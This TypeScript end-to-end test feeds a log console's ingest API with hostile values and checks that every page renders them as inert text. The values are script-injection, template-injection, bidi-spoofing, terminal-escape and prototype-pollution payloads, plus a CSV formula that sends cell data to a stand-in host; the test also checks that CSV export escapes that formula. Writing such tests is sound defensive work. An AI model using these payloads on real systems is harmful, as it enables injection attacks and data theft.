import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { consolePages, openWatched, type WatchedPage } from '../e2e/console_pages.ts';
import { openBrowser } from '../e2e/journey.ts';
import { eventually, type RunningServer, startServer } from '../e2e/server.ts';
import { has } from '../require.ts';

/** What attackers write into logs, by what it tries. */
const hostile = {
  markup: '<img src=x onerror="window.owned=1"><script>window.owned=1</script>',
  attribute: '"\'><svg onload="window.owned=1"></svg>',
  link: 'javascript:window.owned=1//',
  template: '{{constructor.constructor("window.owned=1")()}}',
  turned: 'invoice\u202efdp.exe\u2066\u200b',
  terminal: '\u001b[2J\u001b]0;owned\u0007',
  formula: '=HYPERLINK("http://192.0.2.9/?"&A1,"open")',
} as const;
const host = hostile.markup;
const user = hostile.attribute;

const events = [
  // An alert whose entity and every highlighted value is hostile.
  {
    event: { dataset: 'nginx.access', category: ['web'], action: hostile.link },
    host: { name: host },
    user: { name: user },
    url: { path: `/${hostile.template}`, query: 'cmd=id', original: `/${hostile.markup}?cmd=id` },
    user_agent: { original: `sqlmap ${hostile.turned}` },
    http: { response: { status_code: 200 } },
    message: `${hostile.markup}${hostile.terminal}${hostile.turned}`,
  },
  { message: hostile.formula, host: { name: hostile.formula }, user: { name: hostile.turned } },
  { message: `${hostile.markup} ${'long '.repeat(180_000)}`, host: { name: 'long' } },
  {
    message: 'many fields',
    labels: Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`${hostile.markup}${i}`, `v${i}`])),
  },
];
const prototypes =
  '{"message":"prototypes","__proto__":{"owned":1},"constructor":{"prototype":{"owned":1}},"labels":{"__proto__":{"owned":1}}}';

describe.runIf(has('chromium'))('hostile log text', () => {
  let server: RunningServer;
  let browser: Browser;
  let context: BrowserContext;
  let watched: WatchedPage;
  let page: Page;
  const post = (path: string, body: string) => fetch(`${server.ingest}${path}`, { method: 'POST', body });

  beforeAll(async () => {
    [browser, server] = await Promise.all([openBrowser(), startServer()]);
    const now = new Date().toISOString();
    for (const event of events) {
      const body = JSON.stringify({ '@timestamp': now, ...event });
      const answer = await post('/ingest/shop', body);
      expect([200, 413]).toContain(answer.status);
    }
    expect((await post('/ingest/shop', prototypes)).status).toBe(200);
    // Nobody's format: a dead letter.
    await fetch(`${server.ingest}/_bulk`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-ndjson' },
      body: `{"create":{"_index":"shop"}}\n{"message": "${hostile.terminal}${hostile.turned}<img src=x onerror=window.owned=1>"\n`,
    });
    await post('/ingest/shop', `{"@timestamp": "<script>window.owned=1</script>`);
    const { items } = await eventually(
      () => server.api<{ items: { id: string }[] }>('/api/alerts?from=now-1h'),
      (found) => found.items.length >= 2,
    );
    await server.api('/api/alerts/actions', {
      method: 'POST',
      body: {
        ids: (await server.api<{ items: { id: string; version: number }[] }>('/api/alerts?from=now-1h')).items
          .slice(0, 1)
          .map(({ id, version }) => ({ id, version })),
        action: { action: 'note', note: hostile.markup },
      },
    });
    expect(items.length).toBeGreaterThan(0);
    context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    watched = await openWatched(context);
    page = watched.page;
    await page.goto(await server.loginLink());
    await page.waitForURL('**/alerts**');
  });
  afterAll(async () => {
    await browser?.close();
    await server?.dispose();
  });

  /** Nothing ran, nothing became an element, nothing turned text around unseen, nothing pushed the page aside. */
  const expectText = async (where: string) => {
    await watched.settled();
    const seen = await page.evaluate(() => {
      const text = document.body.innerText;
      return {
        owned: 'owned' in window || 'owned' in {},
        elements: [
          ...document.querySelectorAll('[onerror],[onload],img[src="x"],a[href^="javascript:" i]'),
        ].map(({ outerHTML }) => outerHTML.slice(0, 100)),
        unseen: [...text.matchAll(/[\u200b\u202a-\u202e\u2066-\u2069]|[^\P{Cc}\n\t]/gu)].length,
        wide: document.documentElement.scrollWidth > innerWidth,
        broken: /could not be loaded|went wrong/i.test(text),
      };
    });
    expect.soft(seen, where).toEqual({ owned: false, elements: [], unseen: 0, wide: false, broken: false });
  };

  it('is text on every page', async () => {
    for (const path of consolePages()) {
      await page.goto(`${server.url}/${path}`);
      await expectText(path);
    }
    expect(watched.faults.seen).toEqual([]);
  });

  it('is text where it is shown: alert, event, entity, exception, search', async () => {
    const { items } = await server.api<{ items: { id: string; key: { value: string }[] }[] }>(
      '/api/alerts?from=now-1h',
    );
    for (const { id, key } of items) {
      await page.goto(`${server.url}/alerts?id=${encodeURIComponent(id)}`);
      await page.getByText('Why it fired').waitFor();
      expect(key.map(({ value }) => value)).toContain(host);
      await page.getByText(host).first().waitFor();
      await expectText('alert');
      await page.keyboard.press('e');
      await page.getByRole('dialog', { name: 'Make an exception' }).waitFor();
      await expectText('exception');
      await page.keyboard.press('Escape');
    }
    const found = await server.api<{ items: { event: { id: string } }[] }>(
      '/api/events?from=now-1h&limit=50',
    );
    expect(found.items.length).toBeGreaterThanOrEqual(4);
    for (const { event } of found.items) {
      await page.goto(`${server.url}/events?id=${encodeURIComponent(event.id)}`);
      await expectText(`event ${event.id}`);
    }
    for (const [field, value] of [
      ['host.name', host],
      ['user.name', user],
      ['host.name', hostile.formula],
      ['user.name', hostile.turned],
    ] as const) {
      await page.goto(`${server.url}/entity?${field}=${encodeURIComponent(value)}`);
      await expectText(`entity ${value}`);
    }
    for (const q of Object.values(hostile)) {
      await page.goto(`${server.url}/events?q=${encodeURIComponent(`host.name: ${JSON.stringify(q)}`)}`);
      await expectText(`search ${q}`);
    }
    await page.goto(`${server.url}/dead-letters`);
    await page.keyboard.press('j');
    await expectText('dead letter');
    expect(watched.faults.seen.filter((fault) => !fault.includes('400'))).toEqual([]);
  });

  it('is no formula in a spreadsheet', async () => {
    const cookie = (await context.cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
    const answer = await fetch(
      `${server.url}/api/events/export?format=csv&fields=host.name,message&from=now-1h&reason=test`,
      { headers: { cookie } },
    );
    const csv = await answer.text();
    expect(csv).toContain(`"'=HYPERLINK`);
    expect(csv.split(/\r\n/).filter((line) => /^"?[=+@-]/.test(line))).toEqual([]);
  });
});
